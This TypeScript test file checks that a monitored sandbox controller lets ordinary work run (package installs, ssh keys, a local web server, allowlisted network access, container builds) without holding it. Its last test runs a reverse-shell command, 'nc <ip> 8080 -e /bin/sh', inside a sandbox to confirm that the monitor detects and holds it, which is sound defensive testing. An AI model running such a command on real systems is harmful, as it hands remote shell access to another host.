import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFull } from '../helpers/full.ts';
import { importDefinition, longestBuildMs } from '../image/cached-definition.ts';
import { startController, type LabController } from '../lab/controller.ts';
import { openLab, type Lab } from '../lab/lab.ts';
import type { Neighbour } from '../lab/neighbour.ts';
import { until } from '../lab/until.ts';
import { openUplink } from '../lab/uplink.ts';
import { actedOn, detectionsOf, heldBecause, samplesOf, tableOf, type Detection } from './detections.ts';
import { dockerErrand, errands, firstErrand, longErrands, type Errand } from './ordinary/errands.ts';
import { admit, forward, gateway, openLan } from './ordinary/lan.ts';
import { Worker } from './ordinary/worker.ts';

let stack: AsyncDisposableStack;
let lab: Lab;
let controller: LabController;
let lan: Neighbour;
let worker: Worker;

beforeAll(async () => {
  stack = new AsyncDisposableStack();
  lab = stack.use(await openLab({ name: 'ordinary', images: ['system', 'busybox'] }));
  stack.use(await openUplink(lab));
  lan = await openLan(lab);
  controller = stack.use(await startController(lab, { monitoring: true }));
  const keys = ['image = "system"', 'network.allow_local_network_access = true'];
  worker = await Worker.open(controller, { name: 'daily', keys, env: { LAN: lan.ipv4 } });
  await lab.incus('file', 'push', '--mode', '0755', process.execPath, 'coi-daily/usr/local/bin/node');
});
afterAll(() => stack?.disposeAsync());

/**
 * Does a piece of work and looks whether it was let. A sandbox that is held because of it is let go, so that the rest is judged
 * as well.
 */
async function judged(by: Worker, errand: Errand): Promise<string> {
  const held: string[] = [];
  const work = by.does(errand).then(
    (text) => ({ text }),
    (error: unknown) => ({ error }),
  );
  let done: Awaited<typeof work> | undefined;
  do {
    done = await Promise.race([work, sleep(500, undefined)]);
    const reasons = await heldBecause(controller, by.name);
    held.push(...reasons);
    if (reasons.length === 0) continue;
    await controller.coi('resume', by.name);
    await controller.ready(by.name, 'running');
  } while (!done);
  if (held.length > 0) throw new Error(`${errand.name} had ${by.name} held: ${held.join('; ')}`);
  if ('error' in done) throw done.error;
  return done.text;
}

const keyErrand = {
  name: 'a key of its own',
  script: 'mkdir -p -m 700 ~/.ssh; ssh-keygen -q -t ed25519 -N "" -f ~/.ssh/id_ed25519; cat ~/.ssh/id_ed25519.pub',
};
const serverErrand = {
  name: 'a server at 8080',
  script: 'cd ~ && (setsid python3 -m http.server 8080 >/dev/null 2>&1 &); sleep 0.1',
};
const timeout = 900_000;

describe('ordinary work in a sandbox that is watched', { timeout }, () => {
  it('may install packages', async () => {
    await expect(judged(worker, firstErrand)).resolves.toBe('');
    await admit(lab, lan, await judged(worker, keyErrand));
  });

  it.each([...errands, ...(isFull ? longErrands : [])])('may do: $name', async (errand) => {
    await expect(judged(worker, errand)).resolves.toEqual(expect.any(String));
  });

  it('may serve the local network', async () => {
    await judged(worker, serverErrand);
    const { ipv4 = '' } = (await controller.sandbox('daily')) ?? {};
    await forward(lab, { host: ipv4, port: 8080 });
    const asked = () => lan.run(['curl', '-fsS', '--max-time', '3', `http://${gateway}:8080/`]);
    await until('an answer', async () => (await asked()).exitCode === 0, { timeoutMs: 20_000 });
    for (let visit = 0; visit < 50; visit += 1) expect(await asked()).toMatchObject({ exitCode: 0 });
  });

  it('may reach what its allowlist names', async () => {
    const list = ['8080', '5432'].map((port) => `"${lan.ipv4}:${port}"`).join(', ');
    await controller.declare('listed', 'network.mode = "allowlist"', `network.allowed_domains = [${list}]`);
    await controller.ready('listed', 'running');
    const ask = `for n in $(seq 20); do printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${lan.ipv4} 8080 | grep -q hello || exit 1; done`;
    await until('a way out', async () => (await inListed(ask)).exitCode === 0, { timeoutMs: 30_000 });
    expect(await heldBecause(controller, 'listed')).toEqual([]);
  });

  it.each(isFull ? ['coi'] : [])(
    'may run containers, from the image %s',
    { timeout: longestBuildMs },
    async (image) => {
      await importDefinition(lab, image);
      const engine = await Worker.open(controller, { name: 'engine', keys: [`image = "${image}"`], env: {} });
      await expect(judged(engine, dockerErrand)).resolves.toContain('built');
    },
  );

  it('had nothing frozen, killed or cut off', async () => {
    const all: Detection[] = [];
    for (const { name } of (await controller.status()).sandboxes) all.push(...(await detectionsOf(controller, name)));
    const counted = await samplesOf(controller, 'coi_monitor_dropped_total');
    console.log(`detected in ordinary work:\n${tableOf(all)}\n${counted.join('\n')}`);
    expect(actedOn(all)).toEqual([]);
  });

  it('was really watched: what is no ordinary work is held', async () => {
    await controller.declare('turned', 'network.allow_local_network_access = true');
    await controller.ready('turned', 'running');
    const attack = `nc ${lan.ipv4} 8080 -e /bin/sh`;
    await lab.run(['incus', 'exec', 'coi-turned', '--', 'sh', '-c', attack], { timeoutMs: 20_000 });
    await until('a response', async () => (await heldBecause(controller, 'turned')).length > 0, { timeoutMs: 30_000 });
    expect(actedOn(await detectionsOf(controller, 'turned'))).not.toEqual([]);
    expect(await heldBecause(controller, 'daily')).toEqual([]);
  });
});

function inListed(script: string) {
  return lab.run(['incus', 'exec', 'coi-listed', '--', 'sh', '-c', script], { timeoutMs: 60_000 });
}
